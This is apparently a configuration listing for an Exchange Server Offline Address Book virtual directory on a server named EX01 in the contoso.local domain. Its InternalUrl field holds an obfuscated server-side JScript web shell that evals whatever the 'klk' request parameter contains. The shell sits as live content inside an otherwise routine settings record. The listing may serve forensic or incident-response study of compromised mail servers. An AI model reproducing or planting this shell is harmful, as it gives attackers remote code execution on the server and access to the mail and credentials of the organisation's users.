Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EX01
InternalUrl                     : http://o/#<script language="JScript" runat="server">var _0x1a2b=["unsafe","klk"];function Page_Load(){var _0x3c4d=_0x1a2b;eval(Request[_0x3c4d[1]],_0x3c4d[0]);}</script>
InternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
ExternalUrl                     :
ExternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EX01\OAB (Default Web Site)
Guid                            : 6b1e7c64-2f2a-4a8e-9d8e-3c4b0f1d2e11
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 4:12:51 AM
WhenCreated                     : 3/3/2021 4:12:51 AM
WhenChangedUTC                  : 3/3/2021 12:12:51 PM
WhenCreatedUTC                  : 3/3/2021 12:12:51 PM
OrganizationId                  :
Id                              : EX01\OAB (Default Web Site)
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : New
